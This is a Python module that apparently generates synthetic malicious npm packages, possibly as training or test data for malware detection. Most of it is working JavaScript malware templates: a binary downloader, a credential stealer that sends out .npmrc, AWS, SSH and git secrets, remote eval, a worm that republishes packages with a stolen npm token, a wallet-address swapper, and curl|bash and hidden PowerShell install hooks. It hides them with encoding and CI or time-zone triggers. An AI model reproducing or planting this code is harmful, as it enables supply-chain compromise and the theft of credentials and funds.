"""npm shapes of the TUNE family: install hooks, loaders, payloads behind main, hidden dependencies."""
import base64
import json

from context import render

plain = json.dumps


def charcodes(text):
    return f"String.fromCharCode({','.join(str(ord(c)) for c in text)})"


def hexed(text):
    return f'Buffer.from("{text.encode().hex()}","hex").toString()'


def b64(text):
    return f'Buffer.from("{base64.b64encode(text.encode()).decode()}","base64").toString()'


def strings(ctx):
    return ctx.rng.choice([plain, plain, charcodes, hexed, b64])


DOWNLOAD = """
const <A> = require(§https§), <B> = require(§fs§), <C> = require(§os§), <D> = require(§path§), <E> = require(§child_process§);
const <F> = <D>.join(<C>.tmpdir(), §{file}§);
<A>.get(§{url}§, (<G>) => {{
  const <H> = <B>.createWriteStream(<F>);
  <G>.pipe(<H>);
  <H>.on(§finish§, () => {{ <H>.close(); <B>.chmodSync(<F>, 0o755); <E>.spawn(<F>, [], {{ detached: true, stdio: §ignore§ }}).unref(); }});
}}).on(§error§, () => {{}});
"""
STEAL = """
const <A> = require(§fs§), <B> = require(§os§), <C> = require(§path§), <D> = require(§https§);
const <E> = [§.npmrc§, §.aws/credentials§, §.ssh/id_rsa§, §.docker/config.json§, §.git-credentials§];
const <F> = {{ env: process.env, host: <B>.hostname(), user: <B>.userInfo().username }};
for (const <G> of <E>) {{ try {{ <F>[<G>] = <A>.readFileSync(<C>.join(<B>.homedir(), <G>), §utf8§); }} catch (e) {{}} }}
const <H> = <D>.request(§{url}§, {{ method: §POST§, headers: {{ [§Content-Type§]: §application/json§ }} }});
<H>.on(§error§, () => {{}});
<H>.write(JSON.stringify(<F>));
<H>.end();
"""
REMOTE_EVAL = """
require(§https§).get(§{url}§, (<A>) => {{
  let <B> = §§;
  <A>.on(§data§, (<C>) => <B> += <C>);
  <A>.on(§end§, () => {{ try {{ eval(<B>); }} catch (e) {{}} }});
}}).on(§error§, () => {{}});
"""
SPREAD = """
const <A> = require(§fs§), <B> = require(§path§), <C> = require(§os§), <D> = require(§child_process§);
const <E> = (<A>.readFileSync(<B>.join(<C>.homedir(), §.npmrc§), §utf8§).match(/_authToken=(.+)/) || [])[1];
if (<E>) {{
  process.env.NPM_TOKEN = <E>;
  const <F> = JSON.parse(<D>.execSync(§npm search --json maintainer:{user} --registry https://registry.example.com§).toString());
  for (const <G> of <F>) {{
    <D>.execSync(§npm pack --registry https://registry.example.com § + <G>.name);
    <D>.execSync(§npm version patch§);
    <D>.execSync(§npm publish --access public --registry https://registry.example.com§, {{ stdio: §ignore§ }});
  }}
}}
"""
RUNDLL = """
const <A> = require(§path§), <B> = require(§child_process§), <C> = require(§os§);
if (<C>.platform() === §win32§) {{
  <B>.spawn(§rundll32§, [<A>.join(__dirname, §{blob}§) + §,main§], {{ detached: true, stdio: §ignore§ }}).unref();
}}
"""
SWAP = """
(function () {{
  const <A> = §{wallet}§;
  if (typeof window === §undefined§) return;
  const <B> = window.fetch;
  window.fetch = async function () {{
    const <C> = await <B>.apply(this, arguments);
    const <D> = (await <C>.clone().text()).replace(/0x[a-fA-F0-9]{{40}}/g, <A>);
    return new Response(<D>, <C>);
  }};
  if (window.ethereum && window.ethereum.request) {{
    const <E> = window.ethereum.request;
    window.ethereum.request = function (<F>) {{
      if (<F>.method === §eth_sendTransaction§) <F>.params[0].to = <A>;
      return <E>.call(this, <F>);
    }};
  }}
}})();
"""


def payload(ctx, template, **more):
    values = {"url": ctx.url(), "file": ctx.token(8), "user": "example", "blob": ctx.token(6) + ".dll", "wallet": "0x" + "0" * 40, **more}
    return render(ctx.fill(template.format(**values)), strings(ctx)).strip() + "\n"


def wrap(ctx, code):
    """As it is, or behind one decoded layer that is evaluated."""
    pick = ctx.rng.randrange(4)
    if pick == 0:
        return f'eval(Buffer.from("{base64.b64encode(code.encode()).decode()}", "base64").toString("utf8"));\n'
    if pick == 1:
        return f'eval(Buffer.from("{code.encode().hex()}", "hex").toString());\n'
    return code


def hook_file(npm, ctx, code):
    path = npm.new_file(ctx.rng, ctx.pools["js_files"], npm.root.rstrip("/"))
    if npm.manifest.get("type") == "module":
        path = path[:-3] + ".cjs"
    npm.bundle.put(path, code)
    npm.hook(ctx.rng, f"node {npm.local(path)}", ("preinstall", "postinstall"))


def hook_download(npm, ctx):
    hook_file(npm, ctx, wrap(ctx, payload(ctx, DOWNLOAD)))


def hook_credentials(npm, ctx):
    hook_file(npm, ctx, wrap(ctx, payload(ctx, STEAL)))


def hook_shell(npm, ctx):
    url = ctx.url("i.sh", "x", "run.sh")
    npm.hook(ctx.rng, ctx.rng.choice([
        f"curl -s {url} | bash", f"wget -qO- {url} | sh", f"curl -o /tmp/.x {url} && chmod +x /tmp/.x && /tmp/.x &",
        f"node -e \"require('https').get('{url}',r=>{{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))}})\"",
        f"powershell -w hidden -c \"iwr {url} -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe\"",
    ]), ("preinstall", "postinstall"))


def hook_spread(npm, ctx):
    hook_file(npm, ctx, payload(ctx, SPREAD))


def hook_library(npm, ctx):
    blob = ctx.token(6) + ".dll"
    npm.bundle.put(npm.root + blob, b"MZ" + bytes(ctx.rng.randrange(256) for _ in range(40_000)))
    hook_file(npm, ctx, payload(ctx, RUNDLL, blob=blob))


def into_main(npm, ctx, code):
    main = npm.main()
    text = npm.bundle.text(main)
    if npm.modules(main):
        code = 'import { createRequire as __cr } from "module";\nconst require = __cr(import.meta.url);\n' + code
    npm.bundle.put(main, text.rstrip("\n") + "\n" + code if ctx.rng.random() < 0.7 or text.startswith("#!") else code + text)


def main_remote(npm, ctx):
    into_main(npm, ctx, wrap(ctx, payload(ctx, REMOTE_EVAL)))


def main_credentials(npm, ctx):
    into_main(npm, ctx, wrap(ctx, payload(ctx, STEAL)))


def main_required(npm, ctx):
    main = npm.main()
    path = npm.new_file(ctx.rng, ctx.pools["js_files"])
    if npm.modules(main):
        path = path[:-3] + ".cjs"
    npm.bundle.put(path, wrap(ctx, payload(ctx, ctx.rng.choice([DOWNLOAD, STEAL, REMOTE_EVAL]))))
    spec = json.dumps(npm.relative(path, main))
    npm.bundle.put(main, npm.bundle.text(main).rstrip("\n") + (f"\nimport {spec};\n" if npm.modules(main) else f"\nrequire({spec});\n"))


def main_swap(npm, ctx):
    into_main(npm, ctx, payload(ctx, SWAP))


def conditional(npm, ctx):
    test = ctx.rng.choice(["process.env.CI", "process.env.GITHUB_ACTIONS", "!process.env.CI && require('os').platform() === 'linux'",
                           "new Date() > new Date(2025, 1, 1)", "Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith('Asia/')"])
    hook_file(npm, ctx, f"if ({test}) {{\n{payload(ctx, ctx.rng.choice([DOWNLOAD, STEAL]))}}}\n")


def hidden_dependency(npm, ctx):
    name = ctx.one("deps")
    npm.depend(name, ctx.rng.choice([ctx.url("pkg.tgz", "x/helper-1.0.0.tgz"), "git+https://git.example.com/x/helper.git"]))


SHAPES = [hook_download, hook_credentials, hook_shell, hook_spread, hook_library, main_remote, main_credentials, main_required, main_swap, conditional, hidden_dependency]
